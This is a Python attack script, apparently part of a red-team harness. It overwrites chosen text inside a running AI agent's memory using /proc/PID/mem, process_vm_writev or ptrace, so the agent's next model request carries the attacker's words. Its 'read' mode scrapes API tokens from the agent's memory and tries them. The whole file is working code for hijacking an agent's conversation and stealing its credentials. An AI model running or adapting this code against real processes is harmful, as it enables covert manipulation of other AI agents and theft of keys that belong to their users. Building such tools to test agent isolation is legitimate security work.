"""Changes what a running agent is about to ask: ``tamper.py mem|vm|attach|seize PID OLD NEW``; or reads: ``read PID``.

Every place in the agent's memory that holds the text OLD gets NEW, of the same length: by /proc/PID/mem (mem), by
process_vm_writev (vm), or word by word by ptrace (attach, seize). The agent sends its conversation with each request,
so the next one says what the attacker wants, and its answer is in the agent's own transcript.
"""

import ctypes
import io
import os
import re
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

import attacker

PAGE = os.sysconf("SC_PAGE_SIZE")
CHUNK = 4 << 20
TOKEN = re.compile(rb"(?:sk-ant-|agent-broker-phantom-)[A-Za-z0-9_-]{20,}")
ATTACH, SEIZE, INTERRUPT, DETACH, PEEK, POKE = 16, 0x4206, 0x4207, 17, 2, 5  # sys/ptrace.h
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = (ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)


class Vector(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def pieces(pid: int) -> Iterator[tuple[int, bytes]]:
    """Yield (address, bytes) of the writable memory in use."""
    with _file(pid, "mem") as memory, _file(pid, "pagemap") as pagemap:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            addresses, rights, _ = line.split(maxsplit=2)
            if rights.startswith("rw"):
                start, end = (int(each, 16) for each in addresses.split("-"))
                yield from used(memory, pagemap, start, end)


def used(memory, pagemap, start: int, end: int) -> Iterator[tuple[int, bytes]]:
    for first in range(start, end, CHUNK):
        size = min(CHUNK, end - first)
        entries = os.pread(pagemap.fileno(), size // PAGE * 8, first // PAGE * 8)
        if any(entries):
            try:
                yield first, os.pread(memory.fileno(), size, first)
            except OSError:
                yield from by_page(memory, first, size, entries)


def by_page(memory, first: int, size: int, entries: bytes) -> Iterator[tuple[int, bytes]]:
    for number, (entry,) in enumerate(struct.iter_unpack("Q", entries)):
        if entry >> 62:
            try:
                yield first + number * PAGE, os.pread(memory.fileno(), PAGE, first + number * PAGE)
            except OSError:
                continue


def places(pid: int, old: str) -> Iterator[tuple[int, str]]:
    """Yield (address, coding) of a text, as JavaScript engines hold it."""
    for address, data in pieces(pid):
        for coding in ("latin-1", "utf-16-le"):
            for found in re.finditer(re.escape(old.encode(coding)), data):
                yield address + found.start(), coding


def _file(pid: int, name: str, mode: str = "rb") -> io.FileIO:
    return Path(f"/proc/{pid}/{name}").open(mode, 0)


def write_mem(pid: int, address: int, new: bytes) -> None:
    with _file(pid, "mem", "r+b") as memory:
        os.pwrite(memory.fileno(), new, address)


def write_vm(pid: int, address: int, new: bytes) -> None:
    text = ctypes.create_string_buffer(new, len(new))
    ours, theirs = Vector(ctypes.addressof(text), len(new)), Vector(address, len(new))
    if LIBC.process_vm_writev(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) != len(new):
        attacker.note(f"process_vm_writev: {os.strerror(ctypes.get_errno())}")


def write_ptrace(pid: int, address: int, new: bytes) -> None:
    start = address & ~7
    head = struct.pack("l", LIBC.ptrace(PEEK, pid, start, None))[: address - start]
    end = address + len(new)
    tail = struct.pack("l", LIBC.ptrace(PEEK, pid, end & ~7, None))[end & 7 :] if end & 7 else b""
    words = head + new + tail
    for at in range(0, len(words), 8):
        LIBC.ptrace(POKE, pid, start + at, struct.unpack("Q", words[at : at + 8])[0])


def stop(how: str, pid: int) -> None:
    """Stop the agent's first thread, as debuggers do."""
    if LIBC.ptrace(ATTACH if how == "attach" else SEIZE, pid, None, None) < 0:
        sys.exit(f"ptrace: {os.strerror(ctypes.get_errno())}")
    if how == "seize":
        LIBC.ptrace(INTERRUPT, pid, None, None)
    os.waitpid(pid, 0x40000000)  # __WALL


def change(how: str, pid: int, old: str, new: str) -> None:
    write = {"mem": write_mem, "vm": write_vm}.get(how, write_ptrace)
    if write is write_ptrace:
        stop(how, pid)
    found = list(places(pid, old))
    for address, coding in found:
        write(pid, address, new.encode(coding))
    if write is write_ptrace:
        LIBC.ptrace(DETACH, pid, None, None)
    if found:
        attacker.ran(f"{how}: changed {len(found)} places")


def read(pid: int) -> None:
    """Keep every token in the agent's memory, and try them."""
    tokens = {each.decode() for _, data in pieces(pid) for each in TOKEN.findall(data)}
    for token in sorted(tokens):
        attacker.note(token)
    if tokens:
        attacker.ran(f"read {len(tokens)} tokens")
    for attacker.SET["TOKEN"] in sorted(tokens)[:5]:
        attacker.attempt("read")


if __name__ == "__main__":
    if sys.argv[1] == "read":
        read(int(sys.argv[2]))
    else:
        change(sys.argv[1], int(sys.argv[2]), *sys.argv[3:])
